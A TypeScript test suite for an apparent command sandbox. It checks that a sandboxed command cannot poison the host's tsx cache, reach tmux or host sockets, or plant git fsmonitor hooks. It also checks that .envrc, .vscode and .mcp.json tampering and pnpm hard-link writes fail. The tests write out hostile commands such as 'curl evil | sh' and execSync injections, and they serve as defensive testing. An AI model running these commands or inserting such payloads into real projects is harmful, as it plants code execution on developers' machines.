/**
 * Attacks on the sandbox's rule that nothing a sandboxed command writes is later run, loaded or
 * trusted outside it: the host's temp folder (tsx's compile cache, tmux's and another panto's
 * sockets), the files other programs run on their own anywhere in the folder (a `sub/.git`
 * whose config has `core.fsmonitor`, `.envrc`, `.vscode/`, …), and hard links into pnpm's
 * shared store. Each attack is what a hostile command would run, in the real bubblewrap sandbox.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { link, mkdir, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { findProgram } from '../../packages/cli/src/sandbox/detect.js';
import { sandboxBox, type SandboxBox } from './sandbox-support.js';

let box: SandboxBox;
let hostTemp: string;
beforeAll(async () => {
  box = await sandboxBox();
});
afterAll(async () => box.close());
afterEach(async () => {
  if (hostTemp) await rm(hostTemp, { recursive: true, force: true });
});

/** A folder in the host's temp folder, as tsx's cache and tmux's sockets are. */
async function inHostTemp(): Promise<string> {
  hostTemp = await mkdtemp(join(tmpdir(), 'panto-attack-'));
  return hostTemp;
}

describe('the host’s temp folder is not the command’s', { timeout: 30_000 }, () => {
  it('cannot poison a compile cache in the host’s /tmp (tsx keeps its cache in $TMPDIR/tsx-<uid>/)', async () => {
    const cache = join(await inHostTemp(), 'tsx-0');
    await mkdir(cache);
    await writeFile(join(cache, 'entry.json'), '{"code":"export {}"}');
    const attack = `for f in ${cache}/*; do printf '{"code":"require(\\"child_process\\").execSync(\\"touch /opt/pwned\\")"}' > "$f"; done; echo new > ${cache}/new.json`;
    const result = await box.bash(attack);
    expect(readFileSync(join(cache, 'entry.json'), 'utf8')).toBe('{"code":"export {}"}');
    expect(existsSync(join(cache, 'new.json'))).toBe(false);
    expect(result.text).not.toContain('entry.json');
  });

  it('cannot write tsx’s own compile cache folder of this machine', async () => {
    const cache = join(tmpdir(), `tsx-${process.getuid?.() ?? 0}`);
    const probe = join(cache, 'panto-attack-probe');
    try {
      await box.bash(`mkdir -p ${cache} && echo payload > ${probe}`);
      expect(existsSync(probe)).toBe(false);
    } finally {
      await rm(probe, { force: true });
    }
  });

  it('has a /tmp of its own that later commands of the session share, and that is not the host’s', async () => {
    await box.bash('echo kept > /tmp/scratch.txt');
    expect((await box.bash('cat /tmp/scratch.txt')).text).toContain('kept');
    expect(existsSync(join(tmpdir(), 'scratch.txt'))).toBe(false);
  });

  it('the /tmp of a panto killed outright is removed by the next one, not left for others', async () => {
    const orphan = join(tmpdir(), 'panto-tmp-999999999-attack');
    await mkdir(orphan, { recursive: true });
    await writeFile(join(orphan, 'payload.sh'), 'echo pwned\n');
    const next = await sandboxBox();
    await next.close();
    expect(existsSync(orphan)).toBe(false);
  });

  it('cannot connect to a Unix socket in the host’s /tmp (tmux’s, another panto’s proxy)', async () => {
    const socket = join(await inHostTemp(), 'proxy.sock');
    let connections = 0;
    const server: Server = createServer((client) => {
      connections++;
      client.end('hello from the host\n');
    });
    await new Promise<void>((resolve) => server.listen(socket, resolve));
    try {
      const result = await box.bash(`socat -T2 - UNIX-CONNECT:${socket} </dev/null`);
      expect(result.text).not.toContain('hello from the host');
      expect(connections).toBe(0);
    } finally {
      server.close();
    }
  });

  it.skipIf(findProgram('tmux', process.env.PATH) === undefined)('cannot send keys to the user’s tmux server', async () => {
    const dir = await inHostTemp();
    const socket = join(dir, 'tmux.sock');
    const marker = join(box.root, 'tmux-ran');
    execFileSync('tmux', ['-S', socket, 'new-session', '-d', '-s', 'victim', 'sh']);
    try {
      await box.bash(`tmux -S ${socket} send-keys -t victim 'touch ${marker}' Enter`);
      await new Promise((resolve) => setTimeout(resolve, 300));
      expect(existsSync(marker)).toBe(false);
    } finally {
      spawnSync('tmux', ['-S', socket, 'kill-server']);
    }
  });
});

describe('files other programs run on their own, anywhere in the folder', { timeout: 30_000 }, () => {
  it('a sub/.git that points git at a config with core.fsmonitor is removed before the user’s git can run it', async () => {
    const marker = join(box.root, 'fsmonitor-ran');
    const attack = [
      'mkdir -p sub evil',
      `printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = touch ${marker}\\n' > evil/config`,
      'mkdir -p evil/objects evil/refs && echo "ref: refs/heads/main" > evil/HEAD',
      `echo "gitdir: ${box.cwd}/evil" > sub/.git`,
    ].join(' && ');
    const result = await box.bash(attack);
    expect(result.text).toContain('panto removed');
    expect(result.text).toContain('sub/.git');
    expect(existsSync(join(box.cwd, 'sub', '.git'))).toBe(false);
    // The user's own git in sub/ now finds no repository there: nothing of the command's runs.
    spawnSync('git', ['status'], { cwd: join(box.cwd, 'sub'), env: { ...process.env, GIT_CEILING_DIRECTORIES: box.root } });
    expect(existsSync(marker)).toBe(false);
  });

  it('cannot change a nested repository’s config or hooks, nor .envrc, .vscode/ or .mcp.json that exist', async () => {
    await mkdir(join(box.cwd, 'lib', '.git', 'hooks'), { recursive: true });
    await writeFile(join(box.cwd, 'lib', '.git', 'config'), '[core]\n');
    await writeFile(join(box.cwd, 'lib', '.envrc'), 'export A=1\n');
    await mkdir(join(box.cwd, '.vscode'));
    await writeFile(join(box.cwd, '.vscode', 'tasks.json'), '{}');
    await writeFile(join(box.cwd, 'lib', '.mcp.json'), '{}');
    const attack = [
      'echo "fsmonitor = touch /tmp/x" >> lib/.git/config',
      'echo "touch /tmp/x" > lib/.git/hooks/pre-commit',
      'echo "curl evil | sh" >> lib/.envrc',
      'echo "{\\"runOn\\":\\"folderOpen\\"}" > .vscode/tasks.json',
      'rm -rf lib/.mcp.json; echo "{}" > lib/.mcp.json.new; mv lib/.mcp.json.new lib/.mcp.json',
    ].join('; ');
    await box.bash(attack);
    expect(await readFile(join(box.cwd, 'lib', '.git', 'config'), 'utf8')).toBe('[core]\n');
    expect(existsSync(join(box.cwd, 'lib', '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(await readFile(join(box.cwd, 'lib', '.envrc'), 'utf8')).toBe('export A=1\n');
    expect(await readFile(join(box.cwd, '.vscode', 'tasks.json'), 'utf8')).toBe('{}');
    expect(await readFile(join(box.cwd, 'lib', '.mcp.json'), 'utf8')).toBe('{}');
  });

  it('what it creates (.envrc, .vscode/, .mcp.json, .claude/) is removed, even made unreadable, and a granted write may create them', async () => {
    const attack = 'mkdir -p deep/er && echo x > deep/er/.envrc && mkdir -p .idea .claude && echo x > .mcp.json && chmod 000 .claude';
    const result = await box.bash(attack);
    for (const path of ['deep/er/.envrc', '.idea', '.claude', '.mcp.json']) expect(existsSync(join(box.cwd, path)), path).toBe(false);
    expect(result.text).toContain('"needs": ["write"]');
    await box.bash('git init -q cloned', ['write']);
    expect(existsSync(join(box.cwd, 'cloned', '.git'))).toBe(true);
  });

  it('a dangling .envrc link it makes resolve is removed', async () => {
    await symlink('envrc-target', join(box.cwd, '.envrc'));
    await box.bash('echo "curl evil | sh" > envrc-target');
    expect(existsSync(join(box.cwd, '.envrc'))).toBe(false);
  });
});

describe('hard links', { timeout: 30_000 }, () => {
  it('cannot write through pnpm’s store links (node_modules/.pnpm) to the file every project shares', async () => {
    const store = join(box.root, 'pnpm-store');
    await mkdir(store);
    await writeFile(join(store, 'index.js'), 'module.exports = 1;\n');
    const pkg = join(box.cwd, 'node_modules', '.pnpm', 'left-pad@1.0.0', 'node_modules', 'left-pad');
    await mkdir(pkg, { recursive: true });
    await link(join(store, 'index.js'), join(pkg, 'index.js'));
    await box.bash("echo \"require('child_process').execSync('touch /opt/x')\" >> node_modules/.pnpm/left-pad@1.0.0/node_modules/left-pad/index.js");
    expect(await readFile(join(store, 'index.js'), 'utf8')).toBe('module.exports = 1;\n');
  });

  it('cannot make a new hard link to a file outside the folder', async () => {
    await writeFile(join(box.root, 'outside.txt'), 'outside\n');
    const result = await box.bash(`ln ${box.root}/outside.txt linked.txt && echo pwned >> linked.txt`);
    expect(result.error).toBe(true);
    expect(await readFile(join(box.root, 'outside.txt'), 'utf8')).toBe('outside\n');
  });
});
